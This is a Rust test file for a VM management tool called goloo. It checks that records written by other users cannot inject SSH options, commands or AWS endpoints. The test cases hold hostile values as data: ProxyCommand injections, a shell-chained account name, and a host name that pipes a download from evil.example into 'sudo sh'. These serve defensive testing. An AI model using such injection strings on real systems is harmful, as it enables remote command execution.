//! Records that somebody else wrote: nothing in them becomes an option, a line, a path or a command, and none of them
//! breaks another one.

use crate::common;
use std::fs;

use crate::common::World;
use serde_json::{Value, json};

/// The record of an EC2 instance, as written by a colleague's goloo.
fn record(name: &str) -> Value {
    json!({
        "schema": 1, "id": "01M8HXK8W3HQXXHS5WXE6KW9AA", "serial": 4, "name": name, "stack": "web", "provider": "aws",
        "phase": "ready", "createdAt": "2026-01-01T00:00:00Z", "updatedAt": "2026-01-01T00:00:00Z",
        "createdBy": {"user": "bob", "host": "desk", "hostId": "another", "goloo": "0.1.0"},
        "sourceConfigPath": "/home/bob/web", "tags": {},
        "ssh": {"user": "ubuntu", "account": "goloo",
                "hostKey": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPBHrXZ9PWAMdVINEoBgGDkAopbgCSdE5t/5DKRVYBBa"},
        "operation": null, "resources": [], "aws": {"publicIP": "203.0.113.9", "fqdn": "web.example.com"},
    })
}

fn put(world: &World, name: &str, record: &Value) {
    let folder = world.state().join("active").join(name);
    fs::create_dir_all(&folder).unwrap();
    fs::write(folder.join("state.json"), record.to_string()).unwrap();
}

/// A world in which `ssh` and `scp` log their arguments, one per line.
fn world() -> World {
    let world = World::new();
    let file = world.path().join("argv");
    for program in ["ssh", "scp", "sftp"] {
        world.program(program, &format!("#!/bin/sh\nprintf '%s\\n' \"$@\" >> {}\n", file.display()));
    }
    world
}

const KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPBHrXZ9PWAMdVINEoBgGDkAopbgCSdE5t/5DKRVYBBa";

#[test]
fn hostile_ssh_values_invalidate_only_that_record_and_run_nothing() {
    let evil_key = format!("{KEY}\n* {KEY}");
    let cases = [
        ("/ssh/user", "ssh.user", "-oProxyCommand=touch PWNED"),
        ("/ssh/user", "ssh.user", "root\n  ProxyCommand touch PWNED"),
        ("/ssh/user", "ssh.user", "${HOME}%h"),
        ("/ssh/account", "ssh.account", "goloo; touch PWNED"),
        ("/ssh/hostKey", "ssh.hostKey", evil_key.as_str()),
        ("/ssh/hostKey", "ssh.hostKey", "@cert-authority * ssh-ed25519 AAAA"),
        ("/aws/publicIP", "aws.publicIP", "-oProxyCommand=touch PWNED"),
        ("/aws/publicIP", "aws.publicIP", "203.0.113.9\n  ProxyCommand touch PWNED"),
    ];
    for (pointer, path, hostile) in cases {
        let world = world();
        put(&world, "fine", &record("fine"));
        let mut evil = record("evil");
        *evil.pointer_mut(pointer).unwrap() = hostile.into();
        put(&world, "evil", &evil);
        let list = world.json(&["list", "--json"]);
        assert_eq!(list["vms"].as_array().unwrap().len(), 1, "{list}");
        assert_eq!((&list["vms"][0]["name"], &list["broken"][0]["name"]), (&"fine".into(), &"evil".into()));
        let error = list["broken"][0]["error"].as_str().unwrap();
        assert!(error.starts_with(&format!("{path}: ")), "{pointer} {hostile:?}: {error}");
        for command in [
            &["ssh", "evil"][..],
            &["exec", "evil", "--", "true"],
            &["cp", "evil:/etc/motd", "."],
            &["ssh-config", "evil"],
            &["logs", "evil"],
            &["status", "evil"],
        ] {
            let ran = world.run(command);
            assert!(ran.code() != 0 && ran.stderr().contains(path), "{command:?}: {ran:?}");
        }
        assert!(!world.path().join("argv").exists(), "{pointer}: ssh was run");
        let config = world.run(&["ssh-config"]).expect(0).stdout();
        assert!(config.contains("Host fine") && !config.contains("ProxyCommand"), "{config}");
        assert!(!world.path().join("work/PWNED").exists());
    }
}

#[test]
fn a_stack_folder_named_by_another_users_record_needs_option_f() {
    let world = world();
    let theirs = world.stack("theirs", r#"{"vm": {"cpus": 7}}"#, "");
    let moved = world.path().join("planted");
    fs::rename(&theirs, &moved).unwrap();
    let mut planted = record("planted");
    planted["sourceConfigPath"] = moved.display().to_string().into();
    put(&world, "planted", &planted);
    fs::write(world.state().join("active/planted/config.json"), r#"{"vm": {"cpus": 1}}"#).unwrap();
    let status = world.json(&["status", "planted", "--json"]);
    assert_eq!(status["drift"], "unknown");
    let diff = world.run(&["diff", "planted"]).expect(1);
    assert!(diff.stderr().contains("planted") && diff.stderr().contains("-f PATH"), "{diff:?}");
    assert!(!diff.stdout().contains("cpus"), "{diff:?}");
    let diff = world.run(&["diff", "planted", "-f", moved.to_str().unwrap()]).expect(0);
    assert!(diff.stdout().contains("cpus"), "{diff:?}");
    let create = world.run(&["create", "planted", "--dry-run", "--local", "--as", "mine"]).expect(3);
    assert!(
        create.stderr().contains(moved.to_str().unwrap()) && create.stderr().contains("-f PATH"),
        "{create:?}"
    );
}

#[test]
fn host_resources_used_by_another_users_config_require_confirmation() {
    let world = world();
    let image = world.path().join("work/stacks/hello/disk.img");
    let mut theirs = record("theirs");
    theirs["provider"] = "qemu".into();
    put(&world, "theirs", &theirs);
    let config = json!({"vm": {"cpus": 1, "memory": "512M", "disk": "1G", "image": image,
        "ports": ["8080:80", "0.0.0.0:8000-8010:9000-9010/udp"], "auto_ports": true,
        "mounts": [{"source": world.path().join("home"), "target": "/mnt/home"},
                   {"source": world.path(), "target": "/mnt/all", "readonly": true}]}});
    fs::write(world.state().join("active/theirs/config.json"), config.to_string()).unwrap();
    let again = ["recreate", "theirs", "--as", "mine", "--no-wait"];
    let ran = world.run(&again).expect(2);
    let said = ran.stderr();
    for taken in [world.path().join("home"), image] {
        assert!(said.contains(taken.to_str().unwrap()), "{taken:?} is not in {ran:?}");
    }
    for access in [
        format!("read and write access to the folder {}\n", world.path().join("home").display()),
        format!("read access to the folder {}\n", world.path().display()),
        "port 8080 of this computer, forwarded to its port 80\n".to_owned(),
        "ports of a loopback address of this computer, forwarded to those it listens on\n".to_owned(),
        "UDP ports 8000-8010 of this computer (open to the network at 0.0.0.0), forwarded to its UDP ports 9000-9010\n"
            .to_owned(),
    ] {
        assert!(said.contains(&access), "{access:?} is not in {ran:?}");
    }
    assert!(said.contains("created by bob on desk") && said.contains("--yes"), "{ran:?}");
    assert_eq!(world.qemus(), Vec::<u32>::new());
    world.run(&["recreate", "theirs", "--as", "mine", "--no-wait", "--yes"]).expect(0);
    world.run(&["delete", "mine", "--yes"]).expect(0);
    // The user's own VM is recreated without confirmation.
    world.run(&["create", "hello", "--no-wait"]).expect(0);
    world.run(&["recreate", "hello", "--as", "hello-2", "--no-wait"]).expect(0);
    world.run(&["delete", "hello", "hello-2", "--yes"]).expect(0);
}

#[test]
fn a_record_cannot_choose_an_aws_endpoint() {
    let world = world();
    for (pointer, hostile) in [
        ("/aws/region", json!("evil.example/#")),
        ("/aws/stackID", json!("arn:aws:cloudformation:evil.example#:123456789012:stack/goloo-web/1")),
        (
            "/resources",
            json!([{"kind": "cloudformation-stack", "operation": "01M8HXK8W3HQXXHS5WXE6KW9AA",
            "id": "arn:aws:cloudformation:us-east-1.evil.example#:1:stack/x/1"}]),
        ),
    ] {
        let mut evil = record("evil");
        match pointer {
            "/resources" => evil["resources"] = hostile,
            _ => evil["aws"][&pointer[5..]] = hostile,
        }
        put(&world, "evil", &evil);
        let ran = world.run(&["status", "evil"]).expect(1);
        assert!(ran.stderr().contains("evil.example"), "{ran:?}");
    }
}

/// Anyone who can write to a store can write its mark: nothing is sent there without confirmation.
#[test]
fn a_mark_naming_another_service_is_not_followed_without_confirmation() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let world = world();
    put(&world, "fine", &record("fine"));
    let endpoint = format!("http://{}", listener.local_addr().unwrap());
    let place = format!("s3://bucket/goloo?region=us-east-1&endpoint={endpoint}");
    for mark in [place.clone(), format!("{place} (unfinished)")] {
        fs::write(world.state().join("moved.json"), json!({"schema": 1, "to": mark}).to_string()).unwrap();
        for command in
            [&["list"][..], &["status", "fine"], &["doctor"], &["state", "show"], &["protect", "fine"]]
        {
            world.run(command);
        }
        for command in [&["list"][..], &["protect", "fine"]] {
            let said = world.run(command).stderr();
            assert!(
                said.contains(&format!("credentials would be sent to {endpoint}")),
                "{command:?}: {said}"
            );
        }
        let asked = world.run(&["state", "move", &place]).expect(2);
        assert!(asked.stderr().contains(&endpoint) && asked.stderr().contains("--yes"), "{asked:?}");
    }
    assert_eq!(listener.accept().unwrap_err().kind(), std::io::ErrorKind::WouldBlock, "somebody connected");
    // Then the mark is removed.
    world.run(&["state", "move", "dir"]).expect(2);
    world.run(&["state", "move", "dir", "--yes"]).expect(0);
    world.run(&["protect", "fine"]).expect(0);
}

#[test]
fn a_record_that_would_exceed_the_read_limits_is_not_written() {
    let world = world();
    world.run(&["create", "hello", "--no-wait"]).expect(0);
    let path = world.state().join("active/hello/state.json");
    let own: Value = serde_json::from_slice(&fs::read(&path).unwrap()).unwrap();
    let with = |later: Value| {
        let mut record = own.clone();
        record["later"] = later;
        fs::write(&path, record.to_string()).unwrap();
    };
    // Pretty-printed, these would be many times as long.
    for (later, said) in [
        (json!(vec![json!([]); 20_000]), "more than 10000 values"),
        (
            serde_json::from_str(&format!("{}1{}", "[".repeat(60), "]".repeat(60))).unwrap(),
            "more than 50 levels deep",
        ),
    ] {
        with(later);
        fs::remove_file(world.state().join("active/hello/state.json.prev")).ok();
        let ran = world.run(&["protect", "hello"]).expect(1);
        assert!(ran.stderr().contains(said), "{ran:?}");
    }
    with(json!("x".repeat(1_000_000)));
    let before = fs::read(&path).unwrap();
    for command in [&["protect", "hello"][..], &["stop", "hello", "--force"]] {
        let ran = world.run(command).expect(1);
        assert!(ran.stderr().contains("can't be saved again"), "{ran:?}");
    }
    assert_eq!(fs::read(&path).unwrap(), before);
    assert_eq!(world.qemus().len(), 1, "the provider was called");
    fs::write(&path, own.to_string()).unwrap();
    world.run(&["delete", "hello", "--yes"]).expect(0);
}

/// Puts records into a database that others can write to, and returns its address.
fn shared_store(world: &World, name: &str, vms: &[Value], archived: &[Value]) -> String {
    let address = format!("sqlite:{}", world.path().join(name).join("goloo.db").display());
    let entry = |record: &Value| json!({"record": record, "files": [{"name": "config.json", "text": "{}"}]});
    let gone = |record: &Value| {
        let mut gone = entry(record);
        gone["record"]["phase"] = "destroyed".into();
        gone["id"] = "web-20260101T000000Z-w9aa".into();
        gone
    };
    let document = json!({
        "schema": 1, "vms": vms.iter().map(entry).collect::<Vec<_>>(),
        "archived": archived.iter().map(gone).collect::<Vec<_>>(),
    });
    let file = world.path().join("document.json");
    fs::write(&file, document.to_string()).unwrap();
    in_store(world, &address, &["state", "push", file.to_str().unwrap()]).expect(0);
    address
}

fn in_store(world: &World, address: &str, arguments: &[&str]) -> common::Ran {
    common::Ran(world.command().env("GOLOO_STATE_BACKEND", address).args(arguments).output().unwrap())
}

#[test]
fn overrides_that_somebody_else_may_have_set_are_not_applied() {
    let world = world();
    let folder = world.stack("web", r#"{"vm": {"cpus": 1}}"#, "");
    let mut record = record("web");
    record["overrides"] = json!({"vm.mounts": [{"source": "/", "target": "/srv/all"}]});
    let store = shared_store(&world, "shared", &[record], &[]);
    let folder = folder.to_str().unwrap();
    for command in [&["set", "web", "cpus=2"][..], &["apply", "web", "--dry-run", "-f", folder]] {
        let refused = in_store(&world, &store, command).expect(1);
        let said = refused.stderr();
        assert!(
            said.contains("the overrides in the record of \"web\" may have been set by someone else"),
            "{said}"
        );
        assert!(said.contains("goloo apply web --unset KEY"), "{said}");
    }
    let without = ["apply", "web", "--dry-run", "-f", folder, "--unset", "mounts"];
    in_store(&world, &store, &without).expect(0);
}

#[test]
fn a_record_with_a_changed_id_cannot_be_used_to_reach_the_vm() {
    let world = world();
    let first = record("web");
    let mut other = first.clone();
    other["id"] = "01M8HXK8W3HQXXHS5WXE6KW9AB".into();
    other["aws"]["publicIP"] = "203.0.113.66".into();
    let before = shared_store(&world, "before", std::slice::from_ref(&first), &[]);
    in_store(&world, &before, &["ssh-config", "web"]).expect(0);
    let changed = shared_store(&world, "changed", &[other.clone()], &[]);
    for _ in 0..2 {
        let ran = in_store(&world, &changed, &["ssh-config", "web"]).expect(255);
        assert!(
            ran.stderr().contains("belongs to a different VM than the one that goloo logged in to before"),
            "{ran:?}"
        );
    }
    // Once the first one is deleted, another VM may have its name.
    let again = shared_store(&world, "again", &[other], &[first]);
    in_store(&world, &again, &["ssh-config", "web"]).expect(0);
}

#[test]
fn the_confirmation_for_an_aws_vm_lists_its_costs_and_exposure() {
    let world = world();
    put(&world, "theirs", &record("theirs"));
    let config = json!({
        "vm": {"instance_type": "u-24tb1.112xlarge", "region": "ap-south-1", "vpc_id": "vpc-0123456789abcdef0",
               "subnet_id": "subnet-0123456789abcdef0", "ports": [80, "8080:3306"], "ssh_cidr": ["10.0.0.0/8"]},
        "dns": {"hostname": "shop", "domain": "example.com", "is_apex_domain": true, "cname_aliases": ["login"]},
    });
    fs::write(world.state().join("active/theirs/config.json"), config.to_string()).unwrap();
    let ran = world.run(&["recreate", "theirs", "--as", "mine", "--aws", "--no-wait"]).expect(2);
    for taken in [
        "u-24tb1.112xlarge, in ap-south-1",
        "the network vpc-0123456789abcdef0",
        "the subnet subnet-0123456789abcdef0",
        "port 22 open to 10.0.0.0/8",
        "port 80 open to everyone",
        "port 3306 open to everyone",
        "the DNS name shop.example.com\n",
        "the DNS name example.com\n",
        "the DNS name login.example.com\n",
    ] {
        assert!(ran.stderr().contains(taken), "{taken:?} is not in {ran:?}");
    }
}

#[test]
fn the_host_key_of_a_new_vm_is_pinned_before_its_record_can_change() {
    let world = world();
    world.run(&["create", "hello", "--no-wait"]).expect(0);
    let path = world.state().join("active/hello/state.json");
    let own: Value = serde_json::from_slice(&fs::read(&path).unwrap()).unwrap();
    let with = |change: &dyn Fn(&mut Value)| {
        let mut record = own.clone();
        change(&mut record);
        fs::write(&path, record.to_string()).unwrap();
    };
    with(&|record| record["ssh"]["hostKey"] = KEY.into());
    let ran = world.run(&["exec", "hello", "--", "true"]).expect(255);
    assert!(ran.stderr().contains("names a different host key"), "{ran:?}");
    // A local machine has no AWS address.
    with(&|record| {
        record.as_object_mut().unwrap().remove("endpoint");
        record["aws"] = json!({"publicIP": "203.0.113.9"});
    });
    let ran = world.run(&["exec", "hello", "--", "true"]).expect(1);
    assert!(ran.stderr().contains("no address"), "{ran:?}");
    assert!(!world.path().join("argv").exists(), "ssh was run");
    fs::write(&path, own.to_string()).unwrap();
    world.run(&["exec", "hello", "--", "true"]).expect(0);
    world.run(&["delete", "hello", "--yes"]).expect(0);
    assert_eq!(fs::read_dir(world.state().join("keys/known_hosts.d")).unwrap().count(), 0);
}

#[test]
fn vms_of_others_enter_the_ssh_config_only_by_name() {
    let world = world();
    let address = shared_store(&world, "shared", &[record("bastion")], &[]);
    let ran = in_store(&world, &address, &["ssh-config"]).expect(0);
    assert!(ran.stdout().is_empty() && ran.stderr().contains("goloo ssh-config bastion"), "{ran:?}");
    let ran = in_store(&world, &address, &["ssh-config", "bastion"]).expect(0);
    assert!(ran.stdout().starts_with("Host bastion\n"), "{ran:?}");
}

#[test]
fn a_mark_in_a_shared_store_is_followed_only_after_confirmation() {
    let world = world();
    let address = shared_store(&world, "shared", &[record("web")], &[]);
    let theirs = format!("dir:{}", world.path().join("theirs").display());
    let database = rusqlite::Connection::open(world.path().join("shared/goloo.db")).unwrap();
    database
        .execute("INSERT INTO store VALUES ('moved_to', ?1)", [format!("{theirs} (unfinished)")])
        .unwrap();
    let ran = in_store(&world, &address, &["state", "move", &theirs]).expect(2);
    assert!(ran.stderr().contains("anyone who can write there may have set the mark"), "{ran:?}");
    assert!(!world.path().join("theirs").exists());
    in_store(&world, &address, &["state", "move", &theirs, "--yes"]).expect(0);
}

#[test]
fn a_host_name_from_a_record_is_shell_quoted_in_messages() {
    let world = world();
    let mut theirs = record("theirs");
    theirs["provider"] = "qemu".into();
    theirs["aws"] = Value::Null;
    theirs["createdBy"]["host"] = "desk: curl -s https://evil.example/x | sudo sh".into();
    put(&world, "theirs", &theirs);
    let ran = world.run(&["stop", "theirs"]).expect(1);
    assert!(ran.stderr().contains("on 'desk: curl -s https://evil.example/x | sudo sh';"), "{ran:?}");
}
